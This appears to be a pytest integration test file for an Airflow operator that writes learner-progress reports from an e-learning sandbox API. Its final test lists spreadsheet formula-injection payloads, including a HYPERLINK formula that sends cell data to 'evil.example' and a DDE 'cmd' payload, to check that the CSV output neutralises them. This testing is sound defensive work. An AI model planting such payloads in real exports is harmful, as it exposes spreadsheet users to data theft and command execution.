"""XentreeXELProgressReportOperator over real HTTP to the sandbox: both scopes, paging, date edges,
stable CSV, comparison with a previous report, empty organization, and clear errors."""

from __future__ import annotations

import csv
import json
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from airflow.sdk import Asset
from airflow.sdk.execution_time.context import OutletEventAccessors

from xentree_provider._task.outputs import TEMP_PREFIX
from xentree_provider.api.errors import XentreeConfigError, XentreePermissionError
from xentree_provider.operators.english import XentreeXELProgressReportOperator
from xentree_provider.reporting.data import MODULE_COLUMNS, ORGANIZATION_COLUMNS
from xentree_provider.testing import SandboxServer

pytestmark = pytest.mark.integration

UTC = timezone.utc
ANCHOR = "2026-11-23"  # a Monday; the sandbox's data covers the 28 days before it
WEEK = {
    "data_interval_start": datetime(2026, 11, 16, tzinfo=UTC),
    "data_interval_end": datetime(2026, 11, 23, tzinfo=UTC),
}


@pytest.fixture
def sandbox(xentree_sandbox: SandboxServer, monkeypatch: pytest.MonkeyPatch) -> SandboxServer:
    """The session sandbox reset to a fixed anchor; ``xentree_default`` logs in as Ada (an org owner)."""
    xentree_sandbox.reset(anchor=ANCHOR)
    monkeypatch.setenv("AIRFLOW_CONN_XENTREE_DEFAULT", xentree_sandbox.connection_env())
    return xentree_sandbox


def _context(**extra: Any) -> dict[str, Any]:
    return {**WEEK, "outlet_events": OutletEventAccessors(), **extra}


def _report(
    tmp_path: Path, name: str, context: dict[str, Any] | None = None, **kwargs: Any
) -> dict[str, Any]:
    kwargs.setdefault("scope", "organization")
    operator = XentreeXELProgressReportOperator(
        task_id=f"report_{name}", output_path=str(tmp_path / name), **kwargs
    )
    return operator.execute(_context() if context is None else context)  # type: ignore[arg-type]


def _csv(path: str) -> list[dict[str, str]]:
    with open(path.removeprefix("file://"), newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _json(path: str) -> dict[str, Any]:
    return json.loads(Path(path.removeprefix("file://")).read_text(encoding="utf-8"))


def _directory(sandbox: SandboxServer, org_id: str, **params: Any) -> list[dict[str, Any]]:
    """The directory read straight from the server (one big page), to check the operator against."""
    import requests

    session = requests.Session()
    session.headers["X-API-Key"] = sandbox.api_key("full")
    rows: list[dict[str, Any]] = []
    page = 1
    while True:
        body = session.get(
            f"{sandbox.url}/api/v1/admin/stats/progress/members",
            params={"org_id": org_id, "limit": 200, "page": page, **params},
            timeout=30,
        ).json()
        rows += body["items"]
        if len(rows) >= body["total"] or not body["items"]:
            return rows
        page += 1


def test_organization_report_reads_every_page_and_writes_three_files(
    sandbox: SandboxServer, tmp_path: Path
) -> None:
    org_id = sandbox.credentials()["first_org_id"]
    sandbox.reset_counters()
    context = _context()
    result = _report(tmp_path, "org", context, organization_id=org_id, page_size=50)

    expected = _directory(sandbox, org_id, start_date="2026-11-16", end_date="2026-11-22")
    assert result["members"] == len(expected) == 250
    assert result["window"] == {"start_date": "2026-11-16", "end_date": "2026-11-22"}
    active = sum(1 for r in expected if r["learning_minutes"] > 0 or r["last_activity_at"])
    assert result["active_members"] == active
    assert result["active_share"] == round(active / 250, 4)
    assert result["average_progress"] == round(sum(r["progress_percent"] for r in expected) / 250, 1)
    assert sorted(p.name for p in (tmp_path / "org").iterdir()) == [
        "progress.csv",
        "progress.json",
        "report.html",
    ]

    rows = _csv(result["csv"])
    assert list(rows[0]) == list(ORGANIZATION_COLUMNS)
    assert len({r["user_id"] for r in rows}) == 250
    data = _json(result["json"])
    assert data["totals"]["members"] == 250
    assert data["organization"]["name"] == "Acme Learning"
    assert {g["name"] for g in data["groups"]} == {"Platform", "Sales", "Support", "Research", "Design"}
    assert sum(g["members"] for g in data["groups"]) == 250
    assert len(data["inactive"]) == 250 - active

    # The report folder is the operator's Asset outlet; the run's event lists the files written.
    extra = context["outlet_events"][Asset((tmp_path / "org").as_uri())].extra
    assert extra["files"] == {
        "progress.csv": result["csv"],
        "progress.json": result["json"],
        "report.html": result["html"],
    }


def test_large_directory_is_paged_to_the_end(sandbox: SandboxServer, tmp_path: Path) -> None:
    sandbox.reset(anchor=ANCHOR, directory_members=1234)
    org_id = sandbox.credentials()["first_org_id"]
    sandbox.reset_counters()
    result = _report(tmp_path, "big", organization_id=org_id, page_size=200)
    assert result["members"] == 1234
    assert len({r["user_id"] for r in _csv(result["csv"])}) == 1234
    requests_by_route = json.dumps(sandbox.counters())
    assert "progress/members" in requests_by_route


def test_window_days_are_inclusive_utc_days(sandbox: SandboxServer, tmp_path: Path) -> None:
    """Two one-day reports add up to the two-day report: start and end days are both included."""
    org_id = sandbox.credentials()["first_org_id"]

    def minutes(name: str, start: str, end: str) -> dict[str, float]:
        result = _report(tmp_path, name, _context(), organization_id=org_id, start_day=start, end_day=end)
        assert result["window"] == {"start_date": start, "end_date": end}
        return {r["user_id"]: float(r["learning_minutes"]) for r in _csv(result["csv"])}

    saturday = minutes("sat", "2026-11-21", "2026-11-21")
    sunday = minutes("sun", "2026-11-22", "2026-11-22")
    weekend = minutes("weekend", "2026-11-21", "2026-11-22")
    assert sum(weekend.values()) > 0
    assert weekend == {uid: saturday[uid] + sunday[uid] for uid in weekend}

    # A data interval ending at midnight does not reach into the next day; one second later does.
    to_midnight = _report(tmp_path, "midnight", _context(), organization_id=org_id)
    assert to_midnight["window"]["end_date"] == "2026-11-22"
    past_midnight = _report(
        tmp_path,
        "past",
        _context(data_interval_end=datetime(2026, 11, 23, 0, 0, 1, tzinfo=UTC)),
        organization_id=org_id,
    )
    assert past_midnight["window"]["end_date"] == "2026-11-23"
    with pytest.raises(XentreeConfigError, match="start_day 2026-11-22 is after end_day 2026-11-21"):
        _report(tmp_path, "bad", organization_id=org_id, start_day="2026-11-22", end_day="2026-11-21")
    with pytest.raises(XentreeConfigError, match="no data interval"):
        _report(tmp_path, "manual", {"outlet_events": OutletEventAccessors()}, organization_id=org_id)


def test_csv_is_byte_for_byte_stable(sandbox: SandboxServer, tmp_path: Path) -> None:
    org_id = sandbox.credentials()["first_org_id"]
    first = _report(tmp_path, "a", organization_id=org_id, page_size=37)
    second = _report(tmp_path, "b", organization_id=org_id, page_size=200)
    a = Path(first["csv"].removeprefix("file://")).read_bytes()
    b = Path(second["csv"].removeprefix("file://")).read_bytes()
    assert a == b
    assert a.startswith(",".join(ORGANIZATION_COLUMNS).encode() + b"\n")


def test_user_scope_reports_every_module(sandbox: SandboxServer, tmp_path: Path) -> None:
    result = _report(tmp_path, "me", scope="user")
    data = _json(result["json"])
    dashboard = data["dashboard"]
    assert result["members"] == 1
    assert result["average_progress"] == dashboard["overall_progress_percent"]
    assert result["rows"] == dashboard["modules_total"] == len(_csv(result["csv"]))
    assert list(_csv(result["csv"])[0]) == list(MODULE_COLUMNS)
    statuses = {r["status"] for r in data["rows"]}
    assert statuses == {"completed", "in_progress", "not_started"}
    assert data["totals"]["modules_completed"] == dashboard["modules_completed"]
    # A manual run (no data interval) still works for one learner: no window, no failure.
    manual = _report(tmp_path, "manual", {"outlet_events": OutletEventAccessors()}, scope="user")
    assert manual["window"] is None


def test_team_filter_and_empty_organization(sandbox: SandboxServer, tmp_path: Path) -> None:
    sandbox.reset(anchor=ANCHOR, members_per_org=2, directory_members=0)
    creds = sandbox.credentials()
    org_id = creds["first_org_id"]
    everyone = _directory(sandbox, org_id)
    taken = {t for r in everyone for t in r["teams"]}
    teams = creds["organizations"]["acme"]["teams"]
    empty_team = next(team_id for name, team_id in teams.items() if name not in taken)

    result = _report(tmp_path, "empty", organization_id=org_id, team_id=empty_team)
    assert result["members"] == 0
    assert result["average_progress"] == 0.0
    assert result["active_share"] == 0.0
    assert _csv(result["csv"]) == []
    assert Path(result["csv"].removeprefix("file://")).read_text().strip() == ",".join(ORGANIZATION_COLUMNS)
    page = Path(result["html"].removeprefix("file://")).read_text()
    assert "No members" in page

    busy_name, busy_team = next((n, t) for n, t in teams.items() if n in taken)
    one_team = _report(tmp_path, "team", organization_id=org_id, team_id=busy_team)
    assert one_team["members"] >= 1
    assert {r["team"] for r in _csv(one_team["csv"])} == {busy_name}


def test_change_since_previous_report(sandbox: SandboxServer, tmp_path: Path) -> None:
    org_id = sandbox.credentials()["first_org_id"]
    first = _report(tmp_path, "w1", organization_id=org_id, start_day="2026-11-09", end_day="2026-11-15")
    second = _report(tmp_path, "w2", organization_id=org_id, previous_report_path=str(tmp_path / "w1"))
    assert second["compared_with"] == first["json"]
    comparison = _json(second["json"])["comparison"]
    assert comparison["previous_window"] == {"start_date": "2026-11-09", "end_date": "2026-11-15"}
    assert comparison["totals_change"]["members"] == 0
    assert "Change since the previous report" in Path(second["html"].removeprefix("file://")).read_text()

    missing = _report(tmp_path, "w3", organization_id=org_id, previous_report_path=str(tmp_path / "nope"))
    assert missing["compared_with"] is None
    assert _json(missing["json"])["comparison"] is None

    _report(tmp_path, "mine", scope="user")
    with pytest.raises(XentreeConfigError, match="scope 'user' but this report has scope 'organization'"):
        _report(tmp_path, "w4", organization_id=org_id, previous_report_path=str(tmp_path / "mine"))
    assert not (tmp_path / "w4").exists() or not any((tmp_path / "w4").iterdir())


def test_clear_errors_for_missing_scope_organization_and_permission(
    sandbox: SandboxServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ValueError, match="no scope was given"):
        XentreeXELProgressReportOperator(task_id="r", output_path=str(tmp_path))
    with pytest.raises(XentreeConfigError, match="organization_id"):
        _report(tmp_path, "no_org")
    monkeypatch.setenv("AIRFLOW_CONN_XENTREE_LIVE_ONLY", json.dumps(sandbox.api_key_connection("live")))
    with pytest.raises(XentreePermissionError) as info:
        _report(tmp_path, "no_scope", scope="user", xentree_conn_id="xentree_live_only")
    assert info.value.required_scope == "xel:read"
    assert not (tmp_path / "no_scope").exists()


def test_no_temporary_files_are_left(sandbox: SandboxServer, tmp_path: Path) -> None:
    org_id = sandbox.credentials()["first_org_id"]
    _report(tmp_path, "tidy", organization_id=org_id)
    assert not [p for p in (tmp_path / "tidy").iterdir() if p.name.startswith(TEMP_PREFIX)]


HOSTILE_NAMES = (
    '=HYPERLINK("https://evil.example/steal?d="&A1,"Open me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
)


def test_progress_csv_writes_formula_like_text_inert_and_json_keeps_it_raw(
    sandbox: SandboxServer, tmp_path: Path
) -> None:
    """Members whose names (or e-mails) a spreadsheet would run get a leading quote in the CSV only."""
    import requests

    org_id = sandbox.credentials()["first_org_id"]
    session = requests.Session()
    session.headers["X-API-Key"] = sandbox.api_key("full")
    members = {f"hostile{i}@example.com": name for i, name in enumerate(HOSTILE_NAMES)}
    members["=1+1@evil.example"] = "Plain Name"
    members["calm@example.com"] = "Ada =1 -2"
    for email, name in members.items():
        response = session.post(
            f"{sandbox.url}/api/organizations/{org_id}/members",
            json={"email": email, "role": "member", "full_name": name},
            timeout=30,
        )
        assert response.status_code == 201, response.text

    result = _report(tmp_path, "hostile", organization_id=org_id)

    by_email = {row["email"]: row for row in _csv(result["csv"])}
    for i, name in enumerate(HOSTILE_NAMES):
        assert by_email[f"hostile{i}@example.com"]["full_name"] == "'" + name
    assert by_email["'=1+1@evil.example"]["full_name"] == "Plain Name"
    assert by_email["calm@example.com"]["full_name"] == "Ada =1 -2"
    raw = {row["email"]: row["full_name"] for row in _json(result["json"])["rows"]}
    assert {email: raw[email] for email in members} == members
